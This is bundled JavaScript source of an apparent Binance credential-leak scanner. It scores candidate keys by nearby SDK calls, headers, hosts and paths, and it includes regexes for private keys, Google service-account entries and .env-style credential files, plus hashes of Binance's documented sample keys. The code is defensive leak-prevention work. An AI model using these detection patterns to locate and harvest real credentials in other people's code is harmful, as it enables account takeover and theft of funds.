	if (candidate.algorithm !== void 0) clues.push(...privateKeyClues(candidate.algorithm, document.path));
	const uses = candidate.uses.map((use) => weighUse(use, candidate, document, reading, around));
	const isKey = !otherShapes.has(candidate.shape);
	const isAlias = (index) => candidate.uses[index]?.alias === true;
	const tellsRole = uses.some((use, index) => !isAlias(index) && use.clues.some(({ role }) => role !== void 0));
	for (const [index, use] of uses.entries()) {
		const heard = ({ bits, role }) => !isAlias(index) || bits > 0 && !(tellsRole && role);
		clues.push(...use.clues.filter((one) => (isKey || one.question === "binance") && heard(one)));
	}
	clues.push(...nearClues(candidate, neighbours, document, around));
	if (candidate.algorithm !== void 0 && isServiceAccounts(candidate, clues, around)) clues.push(clue("other-service", "the entries beside it are a service account’s of Google"));
	const best = [...uses].sort((a, b) => b.telling - a.telling)[0];
	const inComment = isSaid(around.acting(), document.text, candidate.span);
	const isOwn = (index) => {
		const { call } = candidate.uses[index];
		return !call || call.span.start <= candidate.span.start && call.span.end >= candidate.span.end;
	};
	const isGiven = uses.some((use, index) => isClientOfItself(use, candidate.uses[index]));
	const isLed = () => isGiven && !inComment && candidate.uses.some(({ call }) => call !== void 0 && isLedLater(around.acting(), call.span));
	const found = uses.find((use, index) => use.environment !== "unknown" && (!inComment || isOwn(index)))?.environment;
	const isNamed = uses.some((use, index) => use.environment !== "unknown" && !candidate.uses[index].call);
	const used = isGiven && !isNamed && found !== "live" ? void 0 : found;
	const names = candidate.uses.flatMap(({ path: [name], call }) => name === void 0 || call ? [] : [name]);
	const told = used ?? environmentNear(document.text, candidate.span, isProse$1(reading.language), around, names);
	const ofAll = () => {
		if (around.environment === "unknown" || around.environment === "live") return around.environment;
		return inComment || isGiven || leadOthersOnly(around.addresses(), around.acting(), candidate.span, names) ? "unknown" : around.environment;
	};
	const environment = told !== "unknown" ? told : isLed() ? "testnet" : ofAll();
	const environmentBy = used !== void 0 ? "its name or what stands beside it" : told !== "unknown" ? "a flag, an address or a remark near it" : "the addresses of the file, or its path";
	return {
		clues: settled(clues),
		environment,
		environmentBy,
		use: best?.sentence ?? "standing alone",
		stem: uses.find(({ stem, telling }) => stem !== "" && telling > 0)?.stem ?? ""
	};
}
/**
* Whether a client of an SDK takes it, and nothing else that could lead the client anywhere but to the live system: what other
* clients of the file are led to says nothing of it.
*/
function isClientOfItself({ clues }, { call }) {
	if (!call || !clues.some(({ signal }) => signal === "sdk-call" || signal === "sdk-like-call")) return false;
	return !call.args.some(({ path, value }) => {
		const name = path.at(-1) ?? "";
		if (/^\d+$/.test(name)) return Number(name) > 1 && value.kind !== "scalar";
		return require_worth_reading.meaningOf(name).role === void 0 && value.kind !== "scalar";
	});
}
/** Entries of a service account of Google; one alone may stand anywhere. */
const serviceAccount = [
	/\.gserviceaccount\.com\b/,
	/\bprivate_key_id\b["'\\]{0,3}\s{0,4}[:=]/,
	/\btype\b["'\\]{0,3}\s{0,4}[:=]\s{0,4}["'\\]{0,3}service_account\b/,
	/\bauth_provider_x509_cert_url\b/
];
/** Whether a private key is a service account's, by what is around it in code or data, where nothing says that it is Binance's. */
function isServiceAccounts({ span }, clues, around) {
	if (clues.some(({ group, signal }) => group === "own" || signal === "binance-path")) return false;
	const text = around.acting();
	const { start, end } = require_worth_reading.linesAround(text, span, 12);
	const beside = text.slice(start, span.start) + text.slice(span.end, end);
	return serviceAccount.filter((entry) => entry.test(beside)).length > 1;
}
const otherShapes = /* @__PURE__ */ new Set([
	"listen-key",
	"passphrase",
	"signature"
]);
function shapeClue({ shape, algorithm }) {
	switch (shape) {
		case "alnum64": return clue("random-64", "64 mixed letters and digits, as Binance makes keys");
		case "hex64": return clue("hex-64", "64 hex digits, as the futures testnet makes keys and as every SHA-256 looks");
		case "private-key":
		case "encrypted-private-key": return clue("private-key-body", `a private key${algorithm === "rsa" ? " (RSA)" : algorithm === "ed25519" ? " (Ed25519)" : ""} that parses`);
		case "fernet": return clue("fernet", "a Fernet token where OctoBot keeps credentials, under a key that its source publishes");
		case "listen-key": return clue("listen-key", "a key of a user data stream by its name or URL");
		case "passphrase": return clue("passphrase", "a text that is named the passphrase of a private key");
		case "signature": return clue("signature", "the signature of a request with its API key");
		default: return shape;
	}
}
function privateKeyClues(algorithm, path) {
	const clues = [clue("any-private-key", "a private key may be for anything"), clue("role-private-key", "it is a private key", "private-key")];
	if (algorithm !== "rsa" && algorithm !== "ed25519") clues.push(clue("other-use", "Binance takes Ed25519 and RSA keys, and this is neither"));
	const other = otherUseByPath(path);
	if (other) clues.push(clue("other-use", `its path says ${other}`));
	return clues;
}
/** The other use that a private key's file is named for; a program's name is for what it does, `session.py`. */
function otherUseByPath(path) {
	if (/\.(?:py|[cm]?[jt]sx?|go|java|kt|cs|rs|rb|php|swift|dart|scala|cpp|c|h)$/i.test(path)) return void 0;
	const [folder, file] = ["", ...path.split("/")].slice(-2).map((step) => require_worth_reading.meaningOf(step));
	return file?.binance ? void 0 : file?.use ?? file?.service ?? folder?.use;
}
/** What a call or a header says outweighs what names only hint at. */
function settled(clues) {
	const has = (...signals) => clues.some(({ signal }) => signals.includes(signal));
	const called = has("sdk-call", "mbx-header", "signing-slot");
	const own = clues.some(({ group }) => group === "own");
	return clues.filter(({ group, signal }) => !(own && (group === "foreign" || group === "otherwise" || group === "section")) && !(called && (signal === "other-use" || signal === "vague-name")));
}
/** Whether hex is more than a hash: only a name or call that says both credential and Binance (or its testnet) makes it so. */
function hexIsCredential(clues, environment, pair) {
	const has = (signal) => clues.some((found) => found.signal === signal);
	if (has("other-use") || has("other-service")) return false;
	const paired = environment === "testnet" && has("other-half") && (has("key-name") || has("role-name"));
	const named = has("credential-name") || has("sdk-argument") || has("header-role") || paired;
	const own = has("binance-name") || has("sdk-call") || has("mbx-header") || has("exchange-entry");
	const file = has("binance-import") || has("binance-host") || has("binance-word");
	if (pair && has("other-half") && (own || file || has("binance-path"))) return true;
	return named && (own || environment === "testnet" || file && environment === "demo");
}
// ../engine/dist/documented.js
/**
* SHA-256 of the credentials that Binance's own documentation publishes, so that the list holds no value. Collected
* from binance/binance-spot-api-docs and developers.binance.com, 2026-11.
*/
const documented = /* @__PURE__ */ new Map([
	["09e59e63ee59f4f16875000cd3c33690f130ceab4aff3b75c96e8e88836f1b8a", "apiKey"],
	["163479d8466a420a6e9b343c136cc1398afa1d1498849c99ecd59c8cecf86874", "apiKey"],
	["1fbf6d20358e3554bec0ce4baf6ddd166cdc09e02b14833151082dd81ac2a2df", "apiKey"],
	["1fe770fcace1109056c6e16f40e7b64234e62e6fdd3d13ff6a6fc856b99819f9", "apiKey"],
	["2bf262f10f18d41f1d1822402ead34cd4705baf62a59f782c1dc18dccc03fb0b", "apiKey"],
	["3ace0da1f0e32affb8240a438f06964af778af285ade589f787a8862181f3c5a", "apiKey"],
	["3b76d52c452446111712fa1a02da33ede27938e6e2ba943f514f3929b837f043", "apiKey"],
	["3cdf0b83920e5951a133ea4471392a43dd5d2fe06ed43a10d415f130843c32ab", "apiKey"],
	["3dc1adcf0fa055b2b2d0cbf5faba2bb243bfb6f9f90fb7537b7c1f5a1c4b3b59", "apiKey"],
	["46c9ac9ccf18521f1422d1d198e2dcb326315cc14b6e9228e774e32220ea54dc", "apiKey"],
	["528317b80ddddf67ca17f421cf4cf1268c7dac90d65c7ac8d2260ad9ee179757", "apiKey"],
	["5ba1ed8425baaa72d558afddb8aaacdfe29ad0dc1a44dae76640127e83626d29", "apiKey"],
	["657f0dfc876ce54ab0143e1ecf39c702c4dc8111d408a476c84fb98a6ddb2523", "apiKey"],
	["6a2f10e571ba3c7fcb0253911d1a3a40a70dac0793b7dea4b52bbd11775610fb", "apiKey"],
	["6fd2063f1cd370c21f4d8e65c50d84c9c19bd87f10c7d134f9ce714e292aeee2", "apiKey"],
	["88a07940499df805e429410fb07b23408a5375962ad3960210e7c2c7aac67779", "apiKey"],
	["8988c60ac0be43a2adee594559e75784a0e6e9eb7f0be38c19d3cd7ea08a0e0f", "apiKey"],
	["99e4a93125ad88559c7dbf51aa3e66301440f4e6c51fc59a88d8af0f348a350b", "apiKey"],
	["9cd8af77c9ba453389dec726d31425ea880a9df1081f613f22dbb0c562fe9351", "apiKey"],
	["afcb22df3b7b1e056900e6cd2b1cd27cd6bc64a8aeac4016d96c214362c7137a", "apiKey"],
	["c2242140f15ceee1aebda3f3c2030e8e96d88d9c58645712052b54aec0cb60cb", "apiKey"],
	["d996d642dd7d8ff19759fd9ccf1037d9979a6bcf29af9add09654ed8008c92df", "apiKey"],
	["dbb12b90ee2bae534ad300960f3acccfa945cde33195582f0821acae98dfcb6b", "apiKey"],
	["dda7ecd568b230e7ac4fe9f94195cd20e9f6f4fd25e991d7abf8a0dacd610fa7", "apiKey"],
	["e6332270b07efd912aa582c5229da1dada9d23835abccc0a85077e51a64ce910", "apiKey"],
	["fc5a6c54a2079828a413a5700719d35e9e0b7e5035e8a371eedd56b39ef82f27", "apiKey"],
	["5053ebf5ac726b85783e41f802c78d0144c7c675236324d218ffe9090963528e", "ed25519PrivateKeyBody"],
	["386028c139110266dcb868be85e408809f50dd7a843638c2b694a6fa1a679929", "listenKey"],
	["5d3f8063e4250802689a9937900376dfd68b581a3bcb83c16569ad2e5c9298b5", "listenKey"],
	["6ea05159099a1f9784b9a678a9f54ad27d75b6ed171256bdeb4cbbc092edfc82", "listenKey"],
	["d220e908b229c75ec9dc9d8a156b4e9350aae804a50001d8e745bced16f5eb85", "listenKey"],
	["e863d406d430fada756ddbb5ea52b7333f216f069141ebbab3e34d8850cac68e", "listenKey"],
	["2650745bb746403de0349bb468926a38ce2d7b8f771d81f73f8c3a832647e260", "publicKeyPemLine"],
	["e913b2d618bc45f167e08b53b0b68d26f8c4b03666499f2310344eccf031bf0b", "publicKeyPemLine"],
	["0c1cc8ea05afd55a92ed4f3ca2269ee35cae1b8aa6ba13a1c88ac4214f41e69f", "secret"],
	["23e9efa3ced6e70c7f2dbe0d08295f18f94b0cbd5c6026677e3bc51897ee31f2", "secret"],
	["39ff0e019884d7e62dfe1adeb9093bd02485c092f2d00318e5f8475e90ea9581", "secret"],
	["c2cdb5350be92a49d4d191ad931ad58083eb11cf4b96efc0a8256341faf79cce", "secret"],
	["e031e4ca7b8238b83840b909ed23c76f26299bfb04689e3564939d18a6edddd3", "secret"],
	["f70a225fd07a0050137e0a9dcf2d366ff495fbad326f182eb5104bbeb99dd537", "apiKey"],
	["5761ecfd2239d284ccfd5aeb29621653335f7a69af5a2176ae2c86a512674665", "apiKey"]
]);
/** What the value with this SHA-256 (64 hex digits) is in Binance's documentation: `apiKey`, `secret` …; undefined if nothing. */
function documentedAs(sha256) {
	return documented.get(sha256);
}
// ../engine/dist/line-hash.js
/**
* The hash by which GitHub's code scanning knows a line again when it has moved: a rolling hash over the first hundred
* characters from the line's start. The same numbers as the upload action computes from a checkout, so that it has nothing
* to warn of (github/codeql-action, src/fingerprints.ts, read 2026-11-22). No protection: 64 bits without a key.
*/
const windowLength = 100;
const factor = 37;
const endOfFile = 65535;
const two32 = 2 ** 32;
/** 37 to the power of `windowLength`, modulo 2^64: what the character that leaves the window weighs. */
const [leavingHigh, leavingLow] = (() => {
	let weight = 1n;
	for (let i = 0; i < windowLength; i += 1) weight = BigInt.asUintN(64, weight * BigInt(factor));
	return [Number(weight >> 32n), Number(weight & 4294967295n)];
})();
/** The hashes of all lines of a text, the first line's first. `\n`, `\r` and `\r\n` end a line; blanks do not count. */
function lineHashes(text) {
	const window = new Uint16Array(windowLength);
	/** The line that begins at this position of the window; 0: none. */
	const begins = new Uint32Array(windowLength);
	const counts = /* @__PURE__ */ new Map();
	const hashes = [];
	let [high, low, at, line] = [
		0,
		0,
		0,
		0
	];
	let isLineStart = true;
	let afterReturn = false;
	const tell = () => {
		const digits = (BigInt(high) * 4294967296n + BigInt(low)).toString(16);
		const count = (counts.get(digits) ?? 0) + 1;
		counts.set(digits, count);
		hashes.push({
			hash: `${digits}:${count}`,
			lastLine: line
		});
		begins[at] = 0;
	};
	const push = (character) => {
		const leaving = window[at];
		window[at] = character;
		const sum = low * factor + character - leavingLow * leaving;
		const carry = Math.floor(sum / two32);
		low = sum - carry * two32;
		const upper = high * factor + carry - leavingHigh * leaving;
		high = upper - Math.floor(upper / two32) * two32;
		at = (at + 1) % windowLength;
	};
	const take = (code) => {
		if (code === 32 || code === 9 || afterReturn && code === 10) {
			afterReturn = false;
			return;
		}
		afterReturn = code === 13;
		const character = afterReturn ? 10 : code;
		if (begins[at] !== 0) tell();
		if (isLineStart) {
			isLineStart = false;
			line += 1;
			begins[at] = line;
		}
		isLineStart = character === 10;
		push(character);
	};
	for (let i = 0; i < text.length; i += 1) take(text.charCodeAt(i));
	take(endOfFile);
	for (let i = 0; i < windowLength; i += 1) {
		if (begins[at] !== 0) tell();
		push(0);
	}
	return hashes;
}
// ../engine/dist/locate.js
/** Offsets of a document's text to places in its file, and back. Lines end with a line feed, as split('\n') has it. */
/** Make one for each document: the table of line starts is built when first needed, and kept. */
function locate(document) {
	const { text, start = {
		line: 1,
		column: 1
	} } = document;
	let lines;
	const starts = () => lines ??= lineStarts(text);
	const place = (offset) => {
		const at = Math.min(Math.max(0, offset), text.length);
		const line = lineAt$1(starts(), at);
		const before = line === 0 ? start.column : 1;
		return {
			line: start.line + line,
			column: before + at - starts()[line]
		};
	};
	return {
		place,
		offset({ line, column }) {
			const index = line - start.line;
			if (index < 0) return 0;
			const from = starts()[index];
			if (from === void 0) return text.length;
			const end = (starts()[index + 1] ?? text.length + 1) - 1;
			return Math.min(Math.max(from, from + column - (index === 0 ? start.column : 1)), end);
		},
		places: (span) => ({
			start: place(span.start),
			end: place(span.end)
		})
	};
}
function lineStarts(text) {
	let count = 1;
	for (let at = text.indexOf("\n"); at >= 0; at = text.indexOf("\n", at + 1)) count++;
	const starts = new Uint32Array(count);
	let at = 0;
	for (let line = 1; line < count; line++) starts[line] = at = text.indexOf("\n", at) + 1;
	return starts;
}
/** The last line that starts at or before an offset. */
function lineAt$1(starts, offset) {
	return countBefore(starts.length, (line) => starts[line] <= offset) - 1;
}
// ../engine/dist/read/imports.js
/**
* The modules, packages and namespaces that a text names, in the import syntax of any language. No parsing. Patterns
* that can begin anywhere have bounded parts, or a long line would take quadratic time.
*/
const statement = (words, pattern) => ({
	words: words.split("|"),
	pattern: new RegExp(pattern.source, "my"),
	isLine: pattern.source.startsWith("^")
});
const statements$1 = [
	statement("import|from", /^[ \t>#/*]*(?:export\s.{0,200}?\bfrom|import(?:\s+(?:static|type|qualified))?|from)\s+["'<]?([@\w][\w./\\:@-]*)/),
	statement("from", /^.{0,300}?\bfrom\s+["']([^"'\n]{1,200})["']/),
	statement("require|include|import|library|load", /\b(?:require|require_once|include|include_once|require_relative|import|library|requireNamespace|load)(?:\s{0,40}\()?\s{0,40}["']([^"'\n]{1,200})["']/),
	statement("library", /\blibrary\(\s{0,40}(\w{1,100})\s{0,40}\)/),
	statement("using|use|alias|extern crate|open", /^[ \t]*(?:pub\s+)?(?:using|use|alias|extern crate|open)\s+(?:static\s+|[A-Za-z]\w*\s*=\s*)?\\?([A-Za-z][\w.\\:]*)/),
	statement("include", /^[ \t]*#[ \t]*include[ \t]*[<"]([^>"\n]{1,200})[>"]/)
];
const words$3 = [...new Set(statements$1.flatMap((one) => one.words))];
const anyWord = new RegExp(`(?:${words$3.join("|")})(?=[\\s("'<_N])`, "g");
const withWord = new Map(words$3.map((word) => [word, statements$1.filter((one) => one.words.includes(word))]));
/** Go's import blocks, which have no word of their own, and a quick look that spares most texts the slow pattern. */
const inBlock = /^[ \t]*(?:[\w.]{1,100}[ \t]{1,40})?"([\w.-]{1,100}\.[a-z]{2,20}\/[\w./-]{1,200})"[ \t]*$/gm;
const mayBeInBlock = /"[\w.-]{1,100}\.[a-z]{2,20}\/[\w./-]{1,200}"[ \t]*$/m;
const most$3 = 500;
const lineEnds = [
	"\n",
	"\r",
	"\u2028",
	"\u2029"
];
/** Distinct names, in no order that means anything. */
function importsOf(text) {
	const named = new Map(statements$1.map((one) => [one, /* @__PURE__ */ new Set()]));
	/** Up to where each was tried. */
	const tried = new Map(statements$1.map((one) => [one, 0]));
	const names = /* @__PURE__ */ new Set();
	let line = 0;
	let at = 0;
	anyWord.lastIndex = 0;
	for (let found = anyWord.exec(text); found && names.size <= most$3; found = anyWord.exec(text)) {
		const between = text.slice(at, found.index);
		at = found.index;
		const lineEnd = Math.max(...lineEnds.map((end) => between.lastIndexOf(end)));
		if (lineEnd >= 0) line = at - between.length + lineEnd + 1;
		for (const one of withWord.get(found[0])) {
			const start = one.isLine ? line : at;
			if (start < tried.get(one)) continue;
			one.pattern.lastIndex = start;
			const [, name] = one.pattern.exec(text) ?? [];
			tried.set(one, Math.max(start + 1, one.pattern.lastIndex));
			if (name === void 0) continue;
			named.get(one).add(name);
			names.add(name);
		}
	}
	const inOrder = new Set([...named.values()].flatMap((some) => [...some]));
	if (mayBeInBlock.test(text)) for (const [, name = ""] of text.matchAll(inBlock)) {
		if (inOrder.size > most$3) break;
		inOrder.add(name);
	}
	return [...inOrder];
}
// ../engine/dist/risks/calls/hosts.js
/** Whose a URL is: Binance's, another exchange's, this machine's, a placeholder, a well-known site's, or a stranger's. */
const url$2 = /^\s*(?:https?|wss?):\/\/(?:[^/?#\s@]{0,200}@)?(\[[0-9a-f:.]{2,45}\]|[^/?#\s:"'`\\]{1,253})/i;
/** The host of a text that begins with a URL, in lower case; undefined where there is none, or where it is computed. */
function hostOf(text) {
	const start = text.slice(0, 600);
	const host = url$2.exec(start)?.[1]?.toLowerCase().replace(/\.$/, "");
	if (host === void 0 || !/[{}$<>%*()]/.test(host)) return host;
	return wholeBefore.exec(start)?.[1]?.toLowerCase();
}
/**
* A host with what is filled in directly behind it: `https://h.dev${path}?…`, `{path}`, `{}`, `%s`, `$path`, `(path)`. It
* is whole where it ends like a domain or an address, and where no more of a host can follow.
*/
const filled$2 = "(?:[$#]?\\{[^{}\\n]{0,80}\\}|\\([^()\\n]{1,80}\\)|\\$[A-Za-z_]\\w{0,60}(?:->\\w{1,60})?|%(?:\\d\\$)?[svd@]|%\\(\\w{1,40}\\)s)";
const wholeBefore = new RegExp(`^\\s*(?:https?|wss?)://((?:[a-z0-9-]{1,63}\\.){1,8}(?:com|net|org|io|dev|app|xyz|info|biz|cloud|online|site|tech|pro|finance|trade|exchange|network|host|space|store|live|vision|me|[a-z]{2})|(?:\\d{1,3}\\.){3}\\d{1,3})${filled$2}(?:$|[/?#&\\s"'\`]|${filled$2})`, "i");
/** A text that is a host and perhaps a port, in lower case, as a socket is given it; undefined for any other. */
function bareHostOf(text) {
	return bareHost.exec(text.trim())?.[1]?.toLowerCase();
}
const bareHost = /^((?:[a-z0-9-]{1,63}\.){1,8}[a-z]{2,24}|(?:\d{1,3}\.){3}\d{1,3})(?::\d{1,5})?$/i;
/** Sites of Binance, its testnets and its branches. Sources: docs/facts.md and the SDKs’ own constants. */
const binance = /(?:^|\.)(?:binance\.(?:com|us|vision|th|cloud|tr|je|sg|kz|info|org)|binancefuture\.com|binanceops\.com|binanceapi\.com|binance(?:zh|cnt)\.\w{2,10}|trbinance\.com|binanceru\.net|tokocrypto\.(?:com|site|id)|bnbstatic\.com|cloudme-toko\.2meta\.app|saasexch\.\w{2,4})$/;
const local = /^(?:localhost|ip6-localhost|\[?::1?\]?|0\.0\.0\.0|127\.\d+\.\d+\.\d+|10\.\d+\.\d+\.\d+|192\.168\.\d+\.\d+|172\.(?:1[6-9]|2\d|3[01])\.\d+\.\d+|169\.254\.\d+\.\d+|host\.docker\.internal|[a-z0-9_-]+)$|\.(?:localhost|local|internal|lan|test|invalid|home|corp|cluster\.local)$/;
const mock = /(?:^|[.-])(?:mock\w*|stub\w*|fake\w*|wiremock|mockserver|httpbin|dummy|pretend|nock|msw)(?:[.-]|$)/;
const placeholder$2 = /^(?:(?:www|api|my|your|the|host|server|domain|base|url|some|foo|bar|test)[.-]?){0,4}example\.(?:com|org|net)$|^your[.-]?[\w-]{0,40}\.(?:com|org|net|io|dev|app|xyz)$|(?:^|[.-])your-|yourdomain|your_|placeholder|xxx|changeme|\.\.\./;
/** Services that serve other things than relays: code, messages, prices, models. Nobody can run a relay there. */
const sites = /(?:^|\.)(?:github\.com|githubusercontent\.com|gitlab\.com|bitbucket\.org|npmjs\.(?:org|com)|pypi\.org|google(?:apis)?\.com|twitter\.com|x\.com|t\.me|telegram\.org|discord(?:app)?\.(?:com|gg)|slack\.com|youtube\.com|medium\.com|wikipedia\.org|stackoverflow\.com|coingecko\.com|coinmarketcap\.com|cryptocompare\.com|coinglass\.com|glassnode\.com|alternative\.me|tradingview\.com|taapi\.io|etherscan\.io|bscscan\.com|bnbchain\.org|openai\.com|anthropic\.com|deepseek\.com|sentry\.io|infura\.io|alchemy\.com|w3\.org|schema\.org|json-schema\.org|mozilla\.org|apache\.org|python\.org|nodejs\.org|readthedocs\.io|twelvedata\.com|polygon\.io|alphavantage\.co|finnhub\.io|yahoo\.com|stlouisfed\.org|newsapi\.org|microsoft\.com)$/;
function ownerOf$1(host) {
	if (binance.test(host)) return "binance";
	if (local.test(host)) return "local";
	if (mock.test(host)) return "placeholder";
	if (placeholder$2.test(host)) return "placeholder";
	if (sites.test(host)) return "site";
	if (clones.test(host) || host.split(".").some((label) => namesOther$1(label))) return "exchange";
	return "stranger";
}
/** Exchanges whose API is Binance’s once more, with its header. Source: ccxt; docs/facts.md. */
const clones = /(?:^|\.)(?:(?:asterdex|apollox|bitrue)\.\w{2,10}|crypto\.com)$/;
/** A label that is the name of another exchange, alone: `bybit`, `gateio`. */
function namesOther$1(label) {
	return !label.includes("binance") && !label.includes("-") && require_worth_reading.namesExchange(label);
}
// ../engine/dist/clues/scan-reports.js
const named$5 = /\.(?:sarif|json)$/i;
/** How a log in SARIF begins, whoever wrote it; no program's own settings do. */
const begins = /^\uFEFF?\s*\{\s*(?:"(?:\$schema|version)"\s*:\s*"[^"\n]{0,200}"\s*,\s*){1,2}"(?:runs|inlineExternalProperties)"\s*:\s*\[/;
const parts$1 = /* @__PURE__ */ new Set([
	"$schema",
	"version",
	"runs",
	"inlineExternalProperties",
	"properties"
]);
/** Whether it is a report in SARIF, ours or another scanner's, and nothing else. Credentials in it have leaked all the same. */
function isScanReport({ path, text }) {
	if (!named$5.test(path) || !begins.test(text)) return false;
	try {
		const log = JSON.parse(text.replace(/^\uFEFF/, ""));
		return Object.keys(log).every((key) => parts$1.has(key)) && Array.isArray(log.runs) && log.runs.every(isRun);
	} catch {
		return false;
	}
}
function isRun(run) {
	const { tool } = run ?? {};
	return typeof tool?.driver?.name === "string";
}
// ../engine/dist/clues/expected-files.js
/**
* Which files with credentials a document reads, or tells people to make: what will be on disk sooner or later, and must
* be ignored before. Looks at code, manifests, compose files, shell and documentation alike.
*/
/** So many are told of one document. */
const mostNames$5 = 10;
/** A word is looked for so often at most. */
const mostLooks = 200;
/** Libraries that read `.env` where nobody says otherwise; each as code or a manifest writes it. */
const loaders = [
	/["']dotenv(?:\/config|-cli|-expand|-flow|-safe|-webpack|-rails)?["']|-r dotenv\b|["']@dotenvx\/dotenvx["']|\bloadEnvFile\(\s*\)/,
	/\bload_dotenv\b|\bdotenv_values\b|\bfrom dotenv\b|\bimport dotenv\b|\bfrom decouple\b|\bpython[-_]d(?:otenv|ecouple)\b|\bfrom environs\b|\bread_env\(\s*\)/i,
	/\bjoho\/godotenv\b|\bgodotenv\.|\bdotenvy?::|^[ \t]*dotenvy?[ \t]*=|\bflutter_dotenv\b|:dotenvy\b/m,
	/\bphpdotenv\b|\bDotenv\\|\bsymfony\/dotenv\b|["']dotenv(?:-rails)?\/load["']|\bdotenv-(?:java|kotlin|rails)\b|\bDotenv\.(?:load|configure)\b|\bDotNetEnv\b|\bdotenv\.net\b|\bSwiftDotenv\b/
];
/** A path that ends in the name of such a file, after what may stand before a path. */
const namedPath = /(?<![\w.@$}/-])(?!process\.|meta\.|import\.|globalThis\.|Deno\.|Bun\.)((?:\.{1,2}\/)?(?:[\w-][\w.-]{0,60}\/){0,6}(?:\.env(?:\.[\w-]{1,40}){0,3}|[\w-]{1,60}\.env|user\.cfg|creds\.ya?ml|api-keys\.json|app\.conf|conf\.js|config[\w-]{0,30}\.json|binance\w{0,30}\.ya?ml|connect_binance\w{0,30}\.json))(?![\w/-]|\.\w)/g;
/** Without one of these there is no such path. A search for a path looks at every word, this one at hardly any. */
const anyName = /\.env(?!\w)|user\.cfg|creds\.ya?ml|api-keys\.json|app\.conf|conf\.js|config[\w-]{0,30}\.json|binance\w{0,30}\.ya?ml/;
/** Without one of these no library is named. */
const anyLoader = /dotenv|dotnetenv|loadenvfile|decouple|environs|read_env/i;
/** What says that the file is read: in code, shell, compose and make. */
const reads = /env[-_]?file|dotenv|load|read|open|parse|config|path|source\b|^\s*-?include\b|\bcat\b|xargs|^\s*\.\s|^\s*-\s|set -a|exists|from_file|SetConfigFile/i;
/** The same of a bot’s file, whose name may be that of anything. */
const opens$1 = /\b(?:open|read|load|parse|from_file|exists)|(?:open|read|load|parse)[A-Z_]?\w*\(|Path\(/;
/** What says that people make it, in sentences and commands. */
const makes$1 = /\b(?:cp|copy|mv|ren|rename|create|make|touch|nano|vim?|code|notepad|edit|fill|put|add|save|store|write|set|enter|paste|place|populate|configure|provide|export|generate|source|load)s?\b|复制|创建|填|создайте|скопируйте|copie|crea|kopier|erstell|créez|copiez|作成|コピー|複製/i;
/** What says that the file is kept out, or may be left out. */
const keepsOut = /\b(?:never|not|n[’']t|without|avoid|ignored?|gitignore|exclude)\b.{0,60}\b(?:commit|push|track|share|upload|add)|gitignore/i;
/** `openssl genpkey … -out private.pem`. */
const makesKey = /\b(?:genpkey|genrsa|ssh-keygen)\b[^\n]{0,80}?-(?:out|f)[ \t]+(?:\.\/)?((?:[\w-]{1,60}\/){0,4}[\w.-]{1,60}\.(?:pem|key|prv))\b/g;
const prose = /\.(?:md|markdown|rst|adoc|txt|html?)$|(?:^|\/)(?:readme|install|setup|usage|llms)[\w.-]*$/i;
/** What only lists names: ignoring files, a lock file’s packages. */
const list = /(?:^|\/)(?:\.\w*ignore|\.gitattributes|[\w-]*lock\.(?:json|ya?ml)|[\w.-]+\.lock|go\.sum|CHANGELOG[\w.-]*)$/i;
const sample = /(?:^|\/)(?:tests?|__tests__|specs?|testing|testdata|fixtures?|examples?|samples?|mocks?|e2e)\/|[._-](?:test|spec)\.\w+$/i;
const shell = /\.(?:sh|bash|zsh|ps1|bat|cmd)$|(?:^|\/)(?:Makefile|justfile)$/i;
/** Paths as written, relative to wherever it runs; `.env` for a library that reads it by default. Linear. */
function expectedFiles({ path, text }) {
	const names = /* @__PURE__ */ new Set();
	const template = require_gates.filledTemplate(path);
	if (template !== void 0) {
		if (speaksOfKeys(text)) names.add(template.slice(template.lastIndexOf("/") + 1));
		return [...names];
	}
	if (list.test(path) || sample.test(path) || require_gates.credentialFile(path)?.isDedicated) return [];
	if (isScanReport({
		path,
		text
	})) return [];
	const isProse = prose.test(path);
	let looked = 0;
	for (const { index, 1: found = "" } of anyName.test(text) ? text.matchAll(namedPath) : []) {
		if (++looked > mostLooks || names.size >= mostNames$5) break;
		const named = found.replace(/^\.\//, "");
		const file = require_gates.credentialFile(named);
		if (file === void 0 || named.startsWith("../")) continue;
		const line = around(text, index, 120, 80);
		if (keepsOut.test(line)) continue;
		const isTold = isProse ? makes$1.test(around(text, index, 60, found.length + 40)) : file.kind === "env" ? reads.test(line) : /["']/.test(text[index - 1] ?? "") && opens$1.test(line);
		const isNamed = isCopied(text, index) || isEnvFile(text, index);
		if (file.isDedicated ? isTold || isNamed : isNamed && (file.kind === "env" || isForKeys(text, index))) names.add(named);
	}
	if (!isProse && anyLoader.test(text) && loaders.some((loader) => loader.test(text)) && ![...names].some((name) => /(?:^|\/)\.env/.test(name))) names.add(".env");
	if (!isProse && !shell.test(path)) return [...names];
	for (const { 1: found = "" } of text.matchAll(makesKey)) if (names.size < mostNames$5) names.add(found);
	return [...names];
}
/** What stands around a place on its line. */
function around(text, index, before, after) {
	return text.slice(Math.max(require_worth_reading.lineStart(text, index), index - before), Math.min(require_worth_reading.lineEnd(text, index), index + after));
}
/** `cp .env.example .env`: the second of the two. */
function isCopied(text, index) {
	const before = around(text, index, 300, 0);
	return /\b(?:cp|mv|copy|ren|rename)\b[^|;&]*(?:example|sample|dist|template)[\w.-]*[`'"]?[ \t]+(?:to[ \t]+|as[ \t]+)?[`'"]?$/i.test(before);
}
/** A configuration that is to be filled in with keys. */
function isForKeys(text, index) {
	return /api[ _-]?(?:key|secret)|secret/i.test(text.slice(Math.max(0, index - 300), index + 300));
}
/** After `--env-file`, or below `env_file:` of a compose file. */
function isEnvFile(text, index) {
	const before = text.slice(Math.max(0, index - 200), index);
	if (/--env-file(?:-if-exists)?[ =]["']?(?:\.\/)?$/.test(before)) return true;
	return /\benv_file:[ \t]*(?:\[?[ \t]*["']?|(?:\r?\n[ \t]*-[ \t]*(?:path:[ \t]*)?["']?[\w./-]*["']?(?:[ \t]*#[^\n]*)?){0,6})(?:\.\/)?$/.test(before);
}
/** A template that asks for keys. */
function speaksOfKeys(text) {
	return /binance|tokocrypto|\bbn[bc]?_/i.test(text) && /key|secret/i.test(text);
}
// ../engine/dist/clues/surroundings.js
/** What a whole document says about every credential in it: imports, hosts, the word Binance, its path. */
/** The chain that once bore the name is no exchange. */
const mentionOf = ({ source, flags }) => new RegExp(`(?:${source})(?![ _-]?(?:smart[ _-]?)?chain|[ _-]?dex|\\.org|-peg)|x-mbx|\\bbnc_|bncli`, `g${flags}`);
const mention = mentionOf(require_worth_reading.binanceWord);
const latinMention = mentionOf(require_worth_reading.latinBinanceWord);
